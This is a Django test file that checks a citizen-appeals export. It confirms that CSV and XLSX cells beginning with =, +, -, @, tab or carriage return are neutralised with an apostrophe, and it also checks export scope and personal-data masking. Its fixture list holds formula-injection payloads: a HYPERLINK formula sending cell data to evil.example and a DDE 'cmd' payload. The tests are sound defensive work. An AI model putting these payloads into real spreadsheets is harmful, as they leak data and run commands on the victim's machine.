"""Finding 3 of issue 11: a cell of an export that begins with =, +, -, @ (or a tab, a carriage return)
is a formula to Excel. Every such cell is written with a leading apostrophe, in CSV and XLSX alike."""

import csv
import io
from datetime import datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.personas import PESTRAVKA, user

pytestmark = pytest.mark.django_db

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Подробнее\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(make_appeal):
    made = [make_appeal(PESTRAVKA, title=formula, text="Нет горячей воды", address="=1+2") for formula in FORMULAS]
    made.append(make_appeal(PESTRAVKA, title="Нет горячей воды, ул. Молодёжная, д. 5", text="Нет горячей воды"))
    return made


def csv_rows(client) -> list[list[str]]:
    response = client.get(reverse("appeals:export_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def shown(value) -> str:
    """A typed cell as the CSV writes its text (XLSX dates are dates)."""
    if value is None:
        return ""
    return value.strftime("%d.%m.%Y %H:%M") if isinstance(value, datetime) else str(value)


def xlsx_rows(client) -> list[list[str]]:
    response = client.get(reverse("appeals:export_xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # not one formula
    rows = [[shown(cell.value) for cell in row] for row in sheet.iter_rows()]
    return rows[next(i for i, row in enumerate(rows) if row[0] == "Номер"):]  # the table, below its conditions


@pytest.mark.parametrize("export", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
def test_a_cell_that_would_be_a_formula_is_neutralised(client, hostile, export):
    client.force_login(user("pestravka_operator"))
    header, *rows = export(client)
    title, address = header.index("Суть"), header.index("Адрес")
    # an XML reader reads a carriage return inside a cell as a line feed
    titles = sorted(row[title].replace("\r", "\n") for row in rows)
    expected = ["'" + formula for formula in FORMULAS] + ["Нет горячей воды, ул. Молодёжная, д. 5"]
    assert titles == sorted(formula.replace("\r", "\n") for formula in expected)
    assert {row[address] for row in rows} == {"'=1+2", ""}
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") for cell in row), row


def test_the_xlsx_export_has_the_csv_columns_rows_scope_and_masking(client, make_appeal):
    from tests.personas import TOLYATTI

    mine = make_appeal(PESTRAVKA, title="Кузнецова Ольга Викторовна, тел. 8 927 555-13-97: нет воды")
    make_appeal(TOLYATTI, title="Течёт крыша")  # outside the МЦУ's scope
    client.force_login(user("pestravka_operator"))
    assert xlsx_rows(client) == csv_rows(client)
    header, *rows = xlsx_rows(client)
    assert [row[0] for row in rows] == [mine.number]
    assert rows[0][header.index("Суть")] == "[ФИО], тел. [телефон]: нет воды"  # a file leaves the system
    page = client.get(reverse("appeals:list")).content.decode()
    assert reverse("appeals:export_xlsx") in page
